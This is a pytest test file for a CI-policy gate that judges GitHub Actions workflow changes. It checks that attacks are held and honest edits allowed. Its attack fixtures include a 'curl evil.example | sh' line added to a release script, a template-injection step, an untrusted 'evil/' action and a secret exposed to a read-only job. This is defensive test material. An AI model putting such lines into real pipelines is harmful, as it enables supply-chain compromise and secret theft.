"""Changes to CI judged by what they can reach (SPEC §2.1, issue 43).

Each case builds a real repository (base on `main`, the change on `pr`) and judges it as
`proofgate policy` does: `prove` with no checks run, the workflow files of both sides read
through the evidence port and audited by zizmor. Attacks are held by the rule the contract
names, at the line; honest edits are allowed and recorded as `ci-workflow-changed`.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from gate.config import load_config
from gate.errors import ConfigError
from gate.git.repo import GitRepository
from gate.model import Decision
from gate.policy import TagAnswer
from gate.policy.pinbump import PinTags
from gate.proof import workflow_audit
from gate.proof.prove import ProveRequest, prove
from tests.gitutil import commit, make_repo, repo_dir

CONFIG = b'version: 1\nimage: python:3.12-slim\nchecks:\n  - {name: unit, test: "true"}\n'
WRITE_DEFAULT = CONFIG + b"ci: {default-token: write}\n"
SHA_A = "11bd71901bbe5b1630ceea73d27597364c9af683"  # actions/checkout v4.2.2
SHA_B = "08eba0b27e820071cde6df949e0beb9ba4906955"  # actions/checkout v4.3.0

TESTS = f"""\
name: tests
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ${{{{ matrix.os }}}}
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        python: ['3.12', '3.13']
    steps:
      - uses: actions/checkout@{SHA_A} # v4.2.2
        with:
          persist-credentials: false
      - uses: actions/setup-python@v5
      - run: python -m pip install -e .
      - run: python -m pytest -q
"""


def _job(name: str, contents: str, run: str, needs: str = "") -> str:
    return (
        f"  {name}:\n{needs}    runs-on: ubuntu-latest\n    permissions:\n"
        f"      contents: {contents}\n    steps:\n      - uses: actions/checkout@{SHA_A} # v4.2.2\n"
        f"        with:\n          persist-credentials: false\n      - run: {run}\n"
    )


RELEASE = (
    "name: release\non:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n"
    + _job("build", "read", "python -m build")
    + _job("publish", "write", "bash scripts/release.sh", needs="    needs: build\n")
)

LINT = """\
name: lint
on: pull_request
permissions:
  contents: read
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: pre-commit run --all-files
"""

PRECOMMIT = "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: {}\n"

BASE: dict[str, str] = {
    ".github/workflows/tests.yml": TESTS,
    ".github/workflows/release.yml": RELEASE,
    ".github/workflows/lint.yml": LINT,
    ".pre-commit-config.yaml": PRECOMMIT.format("v0.6.1"),
    "scripts/release.sh": "twine upload dist/*\n",
    "scripts/lint.sh": "ruff check .\n",
}

Found = dict[str, list[dict[str, object]]]


def _judge(
    tmp_path: Path,
    change: dict[str, str | None],
    *,
    config: bytes = CONFIG,
    base: dict[str, str] | None = None,
    tags: PinTags | None = None,
) -> tuple[Decision, Found, dict[str, object]]:
    repo = make_repo(tmp_path)
    files: dict[bytes, bytes | None] = {k.encode(): v.encode() for k, v in (base or BASE).items()}
    root = commit(repo, {b".github/proofgate.yml": config, **files})
    head = {k.encode(): (v.encode() if v is not None else None) for k, v in change.items()}
    commit(repo, head, branch="pr", parent=root)

    class Oracle:
        def tag(self, repository: str, tag: str) -> TagAnswer:
            assert tags is not None
            return tags.answers.get((repository, tag), TagAnswer(exists=False))

    with GitRepository(repo_dir(repo)) as evidence:
        run = prove(
            ProveRequest(base="main", head="pr", run_checks=False),
            evidence=evidence,
            sandbox=lambda: pytest.fail("the policy path starts no sandbox"),
            tags=Oracle() if tags is not None else None,
        )
    pol = run.predicate["policy"]
    assert isinstance(pol, dict)
    found: Found = {}
    for f in pol["findings"]:
        found.setdefault(f["rule"], []).append(f)
    return run.policy_decision, found, pol


def _held(found: Found, rule: str, *, line: int | None = None, says: str = "") -> dict[str, object]:
    assert rule in found, found
    hits = [f for f in found[rule] if line is None or f["line"] == line]
    assert hits, (rule, line, found[rule])
    f = hits[0]
    assert f["decision"] == "HOLD", f
    assert says in str(f["message"]), f
    return f


def _edit(name: str, old: str, new: str) -> dict[str, str | None]:
    text = BASE[name]
    assert old in text, old
    return {name: text.replace(old, new, 1)}


def _only_ci_allow(decision: Decision, found: Found) -> None:
    holds = {r: fs for r, fs in found.items() if any(f["decision"] != "ALLOW" for f in fs)}
    assert decision is Decision.ALLOW, holds
    assert "ci-workflow-changed" in found or "ci-matrix-changed" in found, found


# --- attacks, each held by the rule the contract names, at the line ------------------

_STEP = "      - run: pre-commit run --all-files\n"
_PUBLISH = "      - run: bash scripts/release.sh\n"
_SECRET_ENV = "        env:\n          TOKEN: ${{ secrets.PYPI }}\n"
_INJECT = '      - run: echo "${{ github.event.pull_request.title }}"\n'
# id: (change, rule, line (None: any), what the message says, the job it names)
ATTACKS: dict[str, tuple[dict[str, str | None], str, int | None, str, str | None]] = {
    "write-permission-added": (
        _edit(".github/workflows/tests.yml", "  contents: read\n", "  contents: write\n"),
        "ci-privilege-changed", 4, "permissions contents: write", "test",
    ),
    "secret-added-to-a-read-only-job": (
        _edit(".github/workflows/tests.yml", "pytest -q\n", "pytest -q\n" + _SECRET_ENV),
        "ci-privilege-changed", 20, "secret PYPI", "test",
    ),
    "pull-request-target-added": (
        _edit(".github/workflows/lint.yml", "on: pull_request\n", "on: [pull_request_target]\n"),
        "ci-privilege-changed", 2, "trigger pull_request_target", "lint",
    ),
    "permissions-block-removed": (
        _edit(".github/workflows/lint.yml", "permissions:\n  contents: read\n", ""),
        "ci-privilege-changed", 4, "`permissions` block is removed", "lint",
    ),
    "step-of-a-contents-write-job-edited": (
        _edit(".github/workflows/release.yml", _PUBLISH, _PUBLISH.replace("\n", " && curl x\n")),
        "ci-privileged-job-changed", 25, "contents: write", "publish",
    ),
    "script-a-privileged-job-runs-edited": (
        {"scripts/release.sh": "twine upload dist/*\ncurl evil.example | sh\n"},
        "ci-privileged-job-changed", 16, "release.yml", "publish",
    ),
    "job-the-publish-job-needs-edited": (
        _edit(".github/workflows/release.yml", "m build\n", "m build && cp x dist\n"),
        "ci-privileged-job-changed", 15, "what a privileged job runs", "build",
    ),
    "uses-moved-from-a-sha-to-a-tag": (
        _edit(".github/workflows/tests.yml", f"checkout@{SHA_A} # v4.2.2", "checkout@v4"),
        "ci-action-unverified", 13, "moves from a full SHA", "test",
    ),
    "new-action-repository-by-tag-in-a-read-only-job": (
        _edit(".github/workflows/lint.yml", _STEP, "      - uses: evil/setup-thing@v1\n" + _STEP),
        "ci-action-unverified", 9, "evil/setup-thing@v1", "lint",
    ),
    "template-injection": (
        _edit(".github/workflows/lint.yml", _STEP, _INJECT + _STEP),
        "ci-audit-finding", 9, "template-injection", "lint",
    ),
    "workflow-that-does-not-parse": (
        {".github/workflows/lint.yml": LINT + "  broken: [\n"},
        "ci-privilege-changed", None, "does not parse", None,
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_workflow_attack_is_held_naming_file_job_and_line(
    tmp_path: Path, attack: tuple[dict[str, str | None], str, int | None, str, str | None]
) -> None:
    change, rule, line, says, job = attack
    decision, found, _ = _judge(tmp_path, change)
    assert decision is Decision.HOLD
    f = _held(found, rule, line=line, says=says)
    message = str(f["message"])
    if job is not None:
        assert f"job `{job}`" in message, message
    if "line" in f:
        assert f"line {f['line']}" in message, message
    assert ".github/workflows/" in message, message


def test_a_removed_permissions_block_leaves_the_job_on_the_default_token(tmp_path: Path) -> None:
    _, _, pol = _judge(tmp_path, ATTACKS["permissions-block-removed"][0])
    assert pol["ci"] == {  # type: ignore[comparison-overlap]
        "default_token": "read",
        "jobs_on_default_token": [".github/workflows/lint.yml#lint"],
    }


def test_a_requirements_file_a_privileged_job_installs_is_no_script_it_runs(
    tmp_path: Path,
) -> None:
    base = {**BASE, "requirements/build.txt": "build==1.2.1\n"}
    base[".github/workflows/release.yml"] = RELEASE.replace(
        "run: python -m build", "run: pip install -r requirements/build.txt && python -m build"
    )
    _, found, _ = _judge(tmp_path, {"requirements/build.txt": "build==1.2.2\n"}, base=base)
    assert not any(r.startswith("ci-") for r in found), found


def test_a_script_no_privileged_job_runs_is_not_a_ci_finding(tmp_path: Path) -> None:
    _, found, _ = _judge(tmp_path, {"scripts/lint.sh": "ruff check --fix .\n"})
    assert not any(r.startswith("ci-") for r in found), found


def test_a_missing_zizmor_holds_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workflow_audit, "zizmor_program", lambda: None)
    change = _edit(".github/workflows/tests.yml", "python: ['3.12', '3.13']", "python: ['3.13']")
    _held(_judge(tmp_path, change)[1], "ci-audit-finding", says="zizmor is missing")


def test_the_default_token_write_makes_an_unprivileged_job_edit_held(tmp_path: Path) -> None:
    base = {
        **BASE,
        ".github/workflows/lint.yml": LINT.replace("permissions:\n  contents: read\n", ""),
    }
    change = {
        ".github/workflows/lint.yml": base[".github/workflows/lint.yml"].replace(
            "--all-files", "--all-files --show-diff-on-failure"
        )
    }
    decision, found, _ = _judge(tmp_path, change, base=base)
    assert decision is Decision.ALLOW, found
    decision, found, pol = _judge(tmp_path / "w", change, base=base, config=WRITE_DEFAULT)
    _held(found, "ci-privileged-job-changed", line=7, says="default token")
    assert pol["ci"] == {  # type: ignore[comparison-overlap]
        "default_token": "write",
        "jobs_on_default_token": [".github/workflows/lint.yml#lint"],
    }


# --- honest edits: allowed, recorded with the jobs they touched ----------------------


_TESTS_WF = ".github/workflows/tests.yml"
# id: (change, what the ci-workflow-changed record says; None: no CI finding at all)
HONEST: dict[str, tuple[dict[str, str | None], str | None]] = {
    "step-of-a-read-only-job": (
        _edit(_TESTS_WF, "pytest -q", "pytest -q -x"), "jobs touched: test"
    ),
    "matrix-entry": (_edit(_TESTS_WF, "'3.12', '3.13'", "'3.12', '3.13', '3.14'"), ""),
    "pre-commit-autoupdate-no-privileged-job-runs": (
        {".pre-commit-config.yaml": PRECOMMIT.format("v0.7.0")}, None
    ),
    "tag-bump-of-an-action-the-base-uses-in-an-unprivileged-job": (
        _edit(_TESTS_WF, "setup-python@v5", "setup-python@v6"), "jobs touched: test"
    ),
    "renamed-job": (
        _edit(".github/workflows/lint.yml", "  lint:\n", "  pre-commit:\n"),
        "lint → pre-commit (renamed)",
    ),
    "comment": (
        _edit(".github/workflows/release.yml", "jobs:\n", "# build, then publish\njobs:\n"),
        "none (comments",
    ),
}  # fmt: skip


@pytest.mark.parametrize("honest", HONEST.values(), ids=HONEST.keys())
def test_honest_workflow_edit_is_allowed(
    tmp_path: Path, honest: tuple[dict[str, str | None], str | None]
) -> None:
    change, says = honest
    decision, found, _ = _judge(tmp_path, change)
    if says is None:
        assert not any(r.startswith("ci-") for r in found), found
        return
    _only_ci_allow(decision, found)
    records = found.get("ci-workflow-changed") or found["ci-matrix-changed"]
    assert says in str(records[0]["message"]), records


def test_a_renamed_privileged_job_keeps_its_audit_findings(tmp_path: Path) -> None:
    change = _edit(".github/workflows/release.yml", "  publish:\n", "  release:\n")
    decision, found = _judge(tmp_path, change)[:2]
    assert "ci-audit-finding" not in found, found
    assert "ci-privilege-changed" not in found, found


def test_a_verified_sha_in_a_privileged_job_is_allowed(tmp_path: Path) -> None:
    change = _edit(
        ".github/workflows/release.yml",
        "      - run: bash scripts/release.sh\n",
        f"      - uses: actions/upload-artifact@{SHA_B} # v4.3.0\n"
        "      - run: bash scripts/release.sh\n",
    )
    tags = PinTags(answers={("actions/upload-artifact", "v4.3.0"): TagAnswer(True, SHA_B)})
    _, found, _ = _judge(tmp_path, change, tags=tags)
    assert "ci-action-unverified" not in found, found
    _held(found, "ci-privileged-job-changed", says="`publish`")  # a new step all the same
    _, found, _ = _judge(tmp_path / "local", change)
    _held(found, "ci-action-unverified", says="could not verify")


@pytest.mark.parametrize(
    ("ci", "says"),
    [
        (b"ci: {default-token: admin}\n", 'ci.default-token: expected one of "read", "write"'),
        (b"ci: {token: write}\n", "ci.token: expected a known key (default-token)"),
        (b"ci: write\n", "ci: expected a value of type object"),
    ],
    ids=["bad-value", "unknown-key", "not-a-mapping"],
)
def test_a_bad_ci_key_is_a_configuration_error_naming_the_key(ci: bytes, says: str) -> None:
    with pytest.raises(ConfigError, match=re.escape(says)):
        load_config(CONFIG + ci, source=".github/proofgate.yml")


def test_the_default_token_is_read_unless_the_config_says_write() -> None:
    assert not load_config(CONFIG, source="x").policy.ci_default_token_write
    assert load_config(WRITE_DEFAULT, source="x").policy.ci_default_token_write


def test_a_finding_the_base_had_is_not_new_when_a_step_is_inserted_above(tmp_path: Path) -> None:
    lint = LINT.replace(_STEP, _INJECT + _STEP)
    base = {**BASE, ".github/workflows/lint.yml": lint}
    change = {".github/workflows/lint.yml": lint.replace("    steps:\n", "    steps:\n" + _STEP)}
    decision, found, _ = _judge(tmp_path, change, base=base)
    assert "ci-audit-finding" not in found, found
    assert decision is Decision.ALLOW, found
